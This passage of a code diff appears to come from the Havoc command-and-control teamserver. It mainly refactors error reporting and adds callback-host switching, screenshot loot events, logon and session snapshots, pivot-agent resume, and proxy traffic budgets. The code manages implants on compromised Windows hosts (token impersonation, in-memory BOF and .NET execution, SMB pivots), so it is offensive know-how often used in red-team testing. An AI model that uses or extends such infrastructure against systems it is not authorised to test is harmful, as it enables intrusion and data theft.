 					a.RequestCompleted(RequestID)
 				} else {
@@ -3932,8 +4379,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Message["Type"] = "Good"
 						Message["Message"] = fmt.Sprintf("Successful killed process: %v", ProcessID)
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = "Failed to kill process"
+						TaskError(Message, ERROR_CODE_FAILED, "Failed to kill process")
 					}
 					a.RequestCompleted(RequestID)
 				} else {
@@ -3961,7 +4407,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 		case CALLBACK_OUTPUT:
 			if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_INLINEEXECUTE - CALLBACK_OUTPUT", AgentID))
-				OutputMap["Output"] = Parser.ParseString()
+				OutputMap["Output"] = a.DecodeANSI(Parser.ParseBytes())
 				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, OutputMap)
 			} else {
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_INLINEEXECUTE - CALLBACK_OUTPUT, Invalid packet", AgentID))
@@ -3973,7 +4419,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 			if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_INLINEEXECUTE - CALLBACK_ERROR", AgentID))
 				OutputMap["Type"] = "Error"
-				OutputMap["Output"] = Parser.ParseString()
+				OutputMap["ErrorCode"] = ERROR_CODE_FAILED
+				OutputMap["Output"] = a.DecodeANSI(Parser.ParseBytes())
 				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, OutputMap)
 			} else {
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_INLINEEXECUTE - CALLBACK_ERROR, Invalid packet", AgentID))
@@ -3989,8 +4436,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					Address   = Parser.ParseInt64()
 				)
 
-				OutputMap["Type"] = "Error"
-				OutputMap["Message"] = fmt.Sprintf("Exception %v [%x] occurred while executing BOF at address %x", win32.StatusToString(int64(Exception)), Exception, Address)
+				TaskErrorNtStatus(OutputMap, uint32(Exception), fmt.Sprintf("Exception %v [%x] occurred while executing BOF at address %x", win32.StatusToString(int64(Exception)), Exception, Address))
 				a.RequestCompleted(RequestID)
 				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, OutputMap)
 			} else {
@@ -4006,8 +4452,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_INLINEEXECUTE - COMMAND_INLINEEXECUTE_SYMBOL_NOT_FOUND, LibAndFunc: %s", AgentID, LibAndFunc))
 
-				OutputMap["Type"] = "Error"
-				OutputMap["Message"] = "Symbol not found: " + LibAndFunc
+				TaskError(OutputMap, ERROR_CODE_NOT_FOUND, "Symbol not found: "+LibAndFunc)
 				a.RequestCompleted(RequestID)
 				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, OutputMap)
 			} else {
@@ -4064,8 +4509,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 			}
 
 			if found == false {
-				OutputMap["Type"] = "Error"
-				OutputMap["Message"] = "Failed to execute object file"
+				TaskError(OutputMap, ERROR_CODE_FAILED, "Failed to execute object file")
 				teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, OutputMap)
 			}
 
@@ -4101,8 +4545,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						ErrorString = ""
 					}
 
-					Message["Type"] = "Error"
-					Message["Message"] = fmt.Sprintf("Win32 Error: %v [%v]", ErrorString, ErrorCode)
+					TaskErrorWin32(Message, int(ErrorCode), fmt.Sprintf("Win32 Error: %v [%v]", ErrorString, ErrorCode))
 					// TODO: can we expect more messages from this request?
 					//a.RequestCompleted(RequestID)
 				} else {
@@ -4118,8 +4561,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 					switch Status {
 					case 0x1:
-						Message["Type"] = "Error"
-						Message["Message"] = "No tokens inside the token vault"
+						TaskError(Message, ERROR_CODE_NOT_FOUND, "No tokens inside the token vault")
 						break
 					}
 					a.RequestCompleted(RequestID)
@@ -4178,8 +4620,9 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_ASSEMBLY_INLINE_EXECUTE - DOTNET_INFO_ENTRYPOINT, Invalid packet", AgentID))
 					Message = map[string]string{
-						"Type":    "Error",
-						"Message": fmt.Sprintf("Callback error: DOTNET_INFO_ENTRYPOINT (0x3) expects more or at least 4 bytes but received %d bytes.", Parser.Length()),
+						"Type":      "Error",
+						"Message":   fmt.Sprintf("Callback error: DOTNET_INFO_ENTRYPOINT (0x3) expects more or at least 4 bytes but received %d bytes.", Parser.Length()),
+						"ErrorCode": ERROR_CODE_MALFORMED,
 					}
 				}
 
@@ -4197,8 +4640,9 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_ASSEMBLY_INLINE_EXECUTE - DOTNET_INFO_FAILED", AgentID))
 
 				Message = map[string]string{
-					"Type":    "Error",
-					"Message": "Failed to execute assembly or initialize the clr",
+					"Type":      "Error",
+					"Message":   "Failed to execute assembly or initialize the clr",
+					"ErrorCode": ERROR_CODE_FAILED,
 				}
 				a.RequestCompleted(RequestID)
 				break
@@ -4434,8 +4878,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								Output["Type"] = "Good"
 								Output["Message"] = fmt.Sprintf("The privilege %s was successfully enabled", PrivName)
 							} else {
-								Output["Type"] = "Error"
-								Output["Message"] = fmt.Sprintf("Failed to enable the %s privilege", PrivName)
+								TaskError(Output, ERROR_CODE_FAILED, fmt.Sprintf("Failed to enable the %s privilege", PrivName))
 							}
 
 						} else {
@@ -4455,8 +4898,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					Output["Type"] = "Good"
 					Output["Message"] = fmt.Sprintf("Successfully created and impersonated token: %s", Parser.ParseUTF16String())
 				} else {
-					Output["Type"] = "Error"
-					Output["Message"] = fmt.Sprintf("Failed to create token")
+					TaskError(Output, ERROR_CODE_FAILED, fmt.Sprintf("Failed to create token"))
 				}
 				a.RequestCompleted(RequestID)
 				break
@@ -4643,7 +5085,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							Output["Output"] = "\n" + Buffer
 							a.RequestCompleted(RequestID)
 						} else {
-							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_TOKEN - DEMON_COMMAND_TOKEN_FIND_TOKENS, Invalid packet: %d", AgentID))
+							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_TOKEN - DEMON_COMMAND_TOKEN_FIND_TOKENS, Invalid packet", AgentID))
 						}
 					} else {
 						Output["Type"] = typeError
@@ -4758,6 +5200,21 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				}
 				break
 
+			case CONFIG_TRANSPORT_HOSTS:
+				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_TRANSPORT_HOSTS", AgentID))
+					ConfigData = Parser.ParseInt32()
+					if ConfigData.(int) == 0 {
+						Message["Type"] = "Error"
+						Message["Message"] = "Callback hosts haven't been switched, the agent keeps its hosts"
+					} else {
+						Message["Message"] = fmt.Sprintf("Callback hosts switched to %v hosts", ConfigData.(int))
+					}
+				} else {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_TRANSPORT_HOSTS, Invalid packet", AgentID))
+				}
+				break
+
 			case CONFIG_IMPLANT_SPFTHREADSTART:
 				if Parser.CanIRead([]parser.ReadType{parser.ReadBytes, parser.ReadBytes}) {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_IMPLANT_SPFTHREADSTART", AgentID))
@@ -4808,6 +5265,16 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				}
 				break
 
+			case CONFIG_IMPLANT_DOWNLOAD_JITTER:
+				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_IMPLANT_DOWNLOAD_JITTER", AgentID))
+					ConfigData = Parser.ParseInt32()
+					Message["Message"] = fmt.Sprintf("Download chunk jitter set to %v%%", ConfigData)
+				} else {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_IMPLANT_DOWNLOAD_JITTER, Invalid packet", AgentID))
+				}
+				break
+
 			case CONFIG_INJECT_TECHNIQUE:
 				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CONFIG - CONFIG_INJECT_TECHNIQUE", AgentID))
@@ -4845,8 +5312,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				break
 
 			default:
-				Message["Type"] = "Error"
-				Message["Message"] = "Error while setting certain config"
+				TaskError(Message, ERROR_CODE_INVALID_ARGUMENT, "Error while setting certain config")
 				break
 			}
 
@@ -4875,27 +5341,31 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					if len(BmpBytes) > 0 {
 						err := logr.LogrInstance.DemonSaveScreenshot(a.NameID, Name, BmpBytes)
 						if err != nil {
-							Message["Type"] = "Error"
-							Message["Message"] = "Failed to take a screenshot: " + err.Error()
+							TaskError(Message, ERROR_CODE_FAILED, "Failed to take a screenshot: "+err.Error())
 							return
 						}
 
 						Message["Type"] = "Good"
 						Message["Message"] = "Successfully took screenshot"
 
+						teamserver.EventPublish(eventbus.LOOT_ADDED, a.Info.Workspace, map[string]any{
+							"AgentID": a.NameID,
+							"Type":    "screenshot",
+							"Name":    Name,
+							"Size":    len(BmpBytes),
+						})
+
 						Message["MiscType"] = "screenshot"
 						Message["MiscData"] = base64.StdEncoding.EncodeToString(BmpBytes)
 						Message["MiscData2"] = Name
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = "Failed to take a screenshot"
+						TaskError(Message, ERROR_CODE_FAILED, "Failed to take a screenshot")
 					}
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SCREENSHOT, Invalid packet", AgentID))
 				}
 			} else {
-				Message["Type"] = "Error"
-				Message["Message"] = "Failed to take a screenshot"
+				TaskError(Message, ERROR_CODE_FAILED, "Failed to take a screenshot")
 			}
 
 			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
@@ -4917,7 +5387,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 			case DEMON_NET_COMMAND_DOMAIN:
 				if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
-					var Domain = Parser.ParseString()
+					var Domain = a.DecodeANSI(Parser.ParseBytes())
 
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_NET - DEMON_NET_COMMAND_DOMAIN, Domain: %s", AgentID, Domain))
 
@@ -4937,8 +5407,9 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 			case DEMON_NET_COMMAND_LOGONS:
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_NET - DEMON_NET_COMMAND_LOGONS", AgentID))
 				var (
-					Index  int
-					Output string
+					Index    int
+					Output   string
+					Snapshot = make(map[string]string)
 				)
 
 				if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
@@ -4951,8 +5422,11 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Index++
 
 						Output += fmt.Sprintf("  %-12s\n", Name)
+						Snapshot[Name] = ""
 					}
 
+					teamserver.AgentSnapshot(a.NameID, SNAPSHOT_LOGONS, Domain, Snapshot)
+
 					Message["Type"] = "Info"
 					Message["Message"] = fmt.Sprintf("Logged on users at %s [%v]: ", Domain, Index)
 					Message["Output"] = "\n" + Output
@@ -4966,9 +5440,10 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 			case DEMON_NET_COMMAND_SESSIONS:
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_NET - DEMON_NET_COMMAND_SESSIONS", AgentID))
 				var (
-					Index  int
-					Buffer bytes.Buffer
-					Data   [][]string
+					Index    int
+					Buffer   bytes.Buffer
+					Data     [][]string
+					Snapshot = make(map[string]string)
 				)
 
 				if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
@@ -4998,8 +5473,13 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 						Column = []string{Client, User, strconv.Itoa(Time), strconv.Itoa(Idle)}
 						Data = append(Data, Column)
+
+						/* active and idle time change with every run */
+						Snapshot[User+" from "+Client] = ""
 					}
 
+					teamserver.AgentSnapshot(a.NameID, SNAPSHOT_SESSIONS, Domain, Snapshot)
+
 					table.AppendBulk(Data)
 					table.Render()
 
@@ -5242,70 +5722,64 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 									// ignore the CommandID
 									AgentHdr.Data.ParseInt32()
 
-									var DemonInfo *Agent
-
-									// if agent exist then just retrieve the instance by agent id
-									if teamserver.AgentExist(AgentHdr.AgentID) {
-
-										DemonInfo = teamserver.AgentInstance(AgentHdr.AgentID)
-										Message["MiscType"] = "reconnect"
-										Message["MiscData"] = fmt.Sprintf("%v;%x", a.NameID, AgentHdr.AgentID)
+									var (
+										DemonInfo *Agent
+										Register  = ParseDemonRegisterRequest(AgentHdr.AgentID, AgentHdr.Data, "")
+									)
 
-										if DemonInfo.Pivots.Parent != nil {
-											for i := range DemonInfo.Pivots.Parent.Pivots.Links {
-												if DemonInfo.Pivots.Parent.Pivots.Links[i].NameID == fmt.Sprintf("%08x", AgentHdr.AgentID) {
-													DemonInfo.Pivots.Parent.Pivots.Links = append(DemonInfo.Pivots.Parent.Pivots.Links[:i], DemonInfo.Pivots.Parent.Pivots.Links[i+1:]...)
-													break
-												}
-											}
-										}
+									if Register != nil {
+										// if the agent has a session then re-attach it to it. it re-authenticates with its session key
+										if DemonInfo, err = teamserver.AgentResume(AgentHdr.AgentID, Register); err != nil {
+											DemonInfo = nil
+										} else if DemonInfo != nil {
+											Message["MiscType"] = "reconnect"
+											Message["MiscData"] = fmt.Sprintf("%v;%x", a.NameID, AgentHdr.AgentID)
 
-										DemonInfo.Active = true
-										DemonInfo.Reason = ""
-										DemonInfo.Pivots.Parent = a
+											DemonInfo.Pivots.Parent = a
 
-										a.Pivots.Links = append(a.Pivots.Links, DemonInfo)
-										teamserver.LinkAdd(a, DemonInfo)
+											a.Pivots.Links = append(a.Pivots.Links, DemonInfo)
+											teamserver.LinkAdd(a, DemonInfo)
 
-										teamserver.AgentUpdate(DemonInfo)
-										teamserver.AgentUpdate(a)
+											teamserver.AgentUpdate(DemonInfo)
+											teamserver.AgentUpdate(a)
 
-									} else {
-										// if the agent doesn't exist then we assume that it's a register request from a new agent
+										} else {
+											// if the agent doesn't exist then we assume that it's a register request from a new agent
 
-										DemonInfo = ParseDemonRegisterRequest(AgentHdr.AgentID, AgentHdr.Data, "")
-										DemonInfo.Pivots.Parent = a
+											DemonInfo = Register
+											DemonInfo.Pivots.Parent = a
 
-										a.Pivots.Links = append(a.Pivots.Links, DemonInfo)
-										teamserver.LinkAdd(a, DemonInfo)
+											a.Pivots.Links = append(a.Pivots.Links, DemonInfo)
+											teamserver.LinkAdd(a, DemonInfo)
 
-										DemonInfo.Info.MagicValue = AgentHdr.MagicValue
+											DemonInfo.Info.MagicValue = AgentHdr.MagicValue
 
-										teamserver.AgentAdd(DemonInfo)
-										teamserver.AgentSendNotify(DemonInfo)
+											teamserver.AgentAdd(DemonInfo)
+											teamserver.AgentSendNotify(DemonInfo)
+										}
 									}
 
 									if DemonInfo != nil {
 										Message["Type"] = "Good"
 										Message["Message"] = "[SMB] Connected to pivot agent [" + a.NameID + "]-<>-<>-[" + DemonInfo.NameID + "]"
 									} else {
-										Message["Type"] = "Error"
-										Message["Message"] = "[SMB] Failed to connect: failed to parse the agent"
+										TaskError(Message, ERROR_CODE_MALFORMED, "[SMB] Failed to connect: failed to parse the agent")
+
+										if err != nil {
+											Message["Message"] = "[SMB] Failed to connect: " + err.Error()
+										}
 									}
 
 								} else {
-									Message["Type"] = "Error"
-									Message["Message"] = "[SMB] Failed to connect: magic value isn't demon type"
+									TaskError(Message, ERROR_CODE_NOT_SUPPORTED, "[SMB] Failed to connect: magic value isn't demon type")
 								}
 
 							} else {
-								Message["Type"] = "Error"
-								Message["Message"] = "[SMB] Failed to connect: " + err.Error()
+								TaskError(Message, ERROR_CODE_MALFORMED, "[SMB] Failed to connect: "+err.Error())
 							}
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PIVOT - DEMON_PIVOT_SMB_CONNECT, Invalid packet", AgentID))
-							Message["Type"] = "Error"
-							Message["Message"] = "[SMB] Failed to connect: Invalid response"
+							TaskError(Message, ERROR_CODE_MALFORMED, "[SMB] Failed to connect: Invalid response")
 						}
 					} else {
 						if Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
@@ -5321,8 +5795,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								ErrorString = ""
 							}
 
-							Message["Type"] = "Error"
-							Message["Message"] = fmt.Sprintf("[SMB] Failed to connect: %v [%v]", ErrorString, ErrorCode)
+							TaskErrorWin32(Message, int(ErrorCode), fmt.Sprintf("[SMB] Failed to connect: %v [%v]", ErrorString, ErrorCode))
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PIVOT - DEMON_PIVOT_SMB_CONNECT, Invalid packet", AgentID))
 						}
@@ -5355,8 +5828,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							teamserver.LinkRemove(a, AgentInstance, true)
 						}
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = fmt.Sprintf("[SMB] Failed to disconnect agent %x", AgentID)
+						TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("[SMB] Failed to disconnect agent %x", AgentID))
 					}
 					a.RequestCompleted(RequestID)
 				} else {
@@ -5392,27 +5864,29 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 									if first_iter {
 										first_iter = false
 										// if the message is not a reconnect, decrypt the buffer
-										AgentHdr.Data.DecryptBuffer(PivotAgent.Encryption.AESKey, PivotAgent.Encryption.AESIv)
+										PivotAgent.DecryptBuffer(AgentHdr.Data)
 									}
 
 									/* The agent is sending us the result of a task */
 									if Command != COMMAND_GET_JOB {
-										Parser := parser.NewParser(AgentHdr.Data.ParseBytes())
+										Parser, ok := ParseTaskResponse(AgentHdr.Data)
+										if !ok {
+											logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PIVOT - DEMON_PIVOT_SMB_COMMAND, Truncated response of %x", AgentID, AgentHdr.AgentID))
+											break
+										}
+
 										PivotAgent.TaskDispatch(Request, Command, Parser, teamserver)
 									}
 								}
 							} else {
-								Message["Type"] = "Error"
-								Message["Message"] = fmt.Sprintf("Can't process output for %x: Agent not found", AgentHdr.AgentID)
+								TaskError(Message, ERROR_CODE_NOT_FOUND, fmt.Sprintf("Can't process output for %x: Agent not found", AgentHdr.AgentID))
 							}
 
 						} else {
-							Message["Type"] = "Error"
-							Message["Message"] = "[SMB] Response magic value isn't demon type"
+							TaskError(Message, ERROR_CODE_NOT_SUPPORTED, "[SMB] Response magic value isn't demon type")
 						}
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = "[SMB] Failed to parse agent header: " + err.Error()
+						TaskError(Message, ERROR_CODE_MALFORMED, "[SMB] Failed to parse agent header: "+err.Error())
 					}
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PIVOT - DEMON_PIVOT_SMB_COMMAND, Invalid packet", AgentID))
@@ -5505,22 +5979,25 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							}
 						} else {
 							Message = map[string]string{
-								"Type":    "Error",
-								"Message": fmt.Sprintf("Couldn't stop download %x: Download does not exists", FileID),
+								"Type":      "Error",
+								"Message":   fmt.Sprintf("Couldn't stop download %x: Download does not exists", FileID),
+								"ErrorCode": ERROR_CODE_NOT_FOUND,
 							}
 						}
 					} else {
 						Message = map[string]string{
-							"Type":    "Error",
-							"Message": fmt.Sprintf("Couldn't stop download %x: FileID not found", FileID),
+							"Type":      "Error",
+							"Message":   fmt.Sprintf("Couldn't stop download %x: FileID not found", FileID),
+							"ErrorCode": ERROR_CODE_NOT_FOUND,
 						}
 					}
 
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_TRANSFER - DEMON_COMMAND_TRANSFER_STOP, Invalid packet", AgentID))
 					Message = map[string]string{
-						"Type":    "Error",
-						"Message": fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x1 (stop). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"Type":      "Error",
+						"Message":   fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x1 (stop). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"ErrorCode": ERROR_CODE_MALFORMED,
 					}
 				}
 				a.RequestCompleted(RequestID)
@@ -5544,22 +6021,25 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							}
 						} else {
 							Message = map[string]string{
-								"Type":    "Error",
-								"Message": fmt.Sprintf("Couldn't resume download %x: Download does not exists", FileID),
+								"Type":      "Error",
+								"Message":   fmt.Sprintf("Couldn't resume download %x: Download does not exists", FileID),
+								"ErrorCode": ERROR_CODE_NOT_FOUND,
 							}
 						}
 					} else {
 						Message = map[string]string{
-							"Type":    "Error",
-							"Message": fmt.Sprintf("Couldn't resume download %x: FileID not found", FileID),
+							"Type":      "Error",
+							"Message":   fmt.Sprintf("Couldn't resume download %x: FileID not found", FileID),
+							"ErrorCode": ERROR_CODE_NOT_FOUND,
 						}
 					}
 
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_TRANSFER - DEMON_COMMAND_TRANSFER_RESUME, Invalid packet", AgentID))
 					Message = map[string]string{
-						"Type":    "Error",
-						"Message": fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x2 (resume). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"Type":      "Error",
+						"Message":   fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x2 (resume). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"ErrorCode": ERROR_CODE_MALFORMED,
 					}
 				}
 				a.RequestCompleted(RequestID)
@@ -5583,22 +6063,25 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							}
 						} else {
 							Message = map[string]string{
-								"Type":    "Error",
-								"Message": fmt.Sprintf("Couldn't remove download %x: Download does not exists", FileID),
+								"Type":      "Error",
+								"Message":   fmt.Sprintf("Couldn't remove download %x: Download does not exists", FileID),
+								"ErrorCode": ERROR_CODE_NOT_FOUND,
 							}
 						}
 					} else {
 						Message = map[string]string{
-							"Type":    "Error",
-							"Message": fmt.Sprintf("Couldn't remove download %x: FileID not found", FileID),
+							"Type":      "Error",
+							"Message":   fmt.Sprintf("Couldn't remove download %x: FileID not found", FileID),
+							"ErrorCode": ERROR_CODE_NOT_FOUND,
 						}
 					}
 
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_TRANSFER - DEMON_COMMAND_TRANSFER_REMOVE, Invalid packet", AgentID))
 					Message = map[string]string{
-						"Type":    "Error",
-						"Message": fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x3 (remove). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"Type":      "Error",
+						"Message":   fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_TRANSFER with subcommand 0x3 (remove). Expected at least 8 bytes but received %v bytes", Parser.Length()),
+						"ErrorCode": ERROR_CODE_MALFORMED,
 					}
 				}
 				a.RequestCompleted(RequestID)
@@ -5666,8 +6149,9 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_RPORTFWD_ADD, Invalid packet", AgentID))
 					Message = map[string]string{
-						"Type":    "Error",
-						"Message": fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_SOCKET sub-command rportfwd (SOCKET_COMMAND_RPORTFWD_ADD : 0x0) expected at least 16 bytes but received %v bytes", Parser.Length()),
+						"Type":      "Error",
+						"Message":   fmt.Sprintf("Callback output is smaller than expected. Callback type COMMAND_SOCKET sub-command rportfwd (SOCKET_COMMAND_RPORTFWD_ADD : 0x0) expected at least 16 bytes but received %v bytes", Parser.Length()),
+						"ErrorCode": ERROR_CODE_MALFORMED,
 					}
 				}
 
@@ -5868,7 +6352,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 								/* if first time, open the client */
 								if opened == false {
-									err := a.PortFwdOpen(SocktID)
+									err := a.PortFwdOpen(SocktID, teamserver.Budget(budget.PIVOTS))
 									if err != nil {
 										logger.Debug(fmt.Sprintf("Failed to open rportfwd: %v", err))
 										a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to open reverse port forward host: %v", err), "")
@@ -5884,9 +6368,21 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								}
 
 								if opened == false {
+									var Budget = teamserver.Budget(budget.PIVOTS)
+
+									if !Budget.Acquire(budget.Goroutines, 1) {
+										a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to read from reverse port forward socket 0x%08x: goroutine budget of the pivots exhausted", SocktID), "")
+										a.PortFwdClose(SocktID)
+										return
+									}
+
 									/* after we managed to open a socket to the forwarded host lets start a
 									 * goroutine where we read the data from the forwarded host and send it to the agent. */
+									var PortFwd = a.PortFwdGet(SocktID)
+
 									go func() {
+										defer teamserver.Recover("reverse port forward")
+										defer Budget.Release(budget.Goroutines, 1)
 
 										for {
 
@@ -5909,11 +6405,19 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 													/* append the job to the task queue */
 													a.AddJobToQueue(job)
 
+													if PortFwd != nil {
+														a.StreamSent(&PortFwd.Stats, len(Data))
+													}
 												}
 
 											} else {
 												/* we failed to read from the portfwd */
 												logger.Error(fmt.Sprintf("Failed to read from socket %08x: %v", SocktID, err))
+
+												if PortFwd != nil {
+													a.StreamFailed(&PortFwd.Stats)
+												}
+
 												return
 											}
 										}
@@ -5926,9 +6430,20 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								/* check if there is a socket with that socks proxy id */
 								if Socket := a.SocksClientGet(SocktID); Socket != nil {
 
+									if Socket.Compress {
+										var err error
+
+										if Data, err = socksDecompress(Data); err != nil {
+											a.StreamFailed(&Socket.Stats)
+											a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to decompress the data of socks proxy %v: %v", SocktID, err), "")
+											return
+										}
+									}
+
 									/* write the data to socks proxy */
 									_, err := Socket.Conn.Write(Data)
 									if err != nil {
+										a.StreamFailed(&Socket.Stats)
 										a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to write to socks proxy %v: %v", SocktID, err), "")
 
 										/* TODO: remove socks proxy client */
@@ -5937,6 +6452,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 										return
 									}
 
+									a.StreamReceived(&Socket.Stats, len(Data))
+
 								} else {
 									logger.Error(fmt.Sprintf("SocketID not found: %08x\n", SocktID))
 								}
@@ -5950,6 +6467,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								ErrorCode = Parser.ParseInt32()
 							)
 							logger.Warn(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_READ, SocktID: %08x, Type: %d, Failed with: %d", AgentID, SocktID, Type, ErrorCode))
+							a.streamFailed(SocktID, Type)
 							a.Console(teamserver.AgentConsole, "Erro", fmt.Sprintf("Failed to read from socks target %v: %v", SocktID, ErrorCode), "")
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_READ, Invalid packet", AgentID))
@@ -5976,6 +6494,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								ErrorCode = Parser.ParseInt32()
 							)
 							logger.Warn(fmt.Sprintf("Agent: %x, Command: COMMAND_SOCKET - SOCKET_COMMAND_WRITE, Id: %08x, Type: %d, Failed with: %d", AgentID, Id, Type, ErrorCode))
+							a.streamFailed(Id, Type)
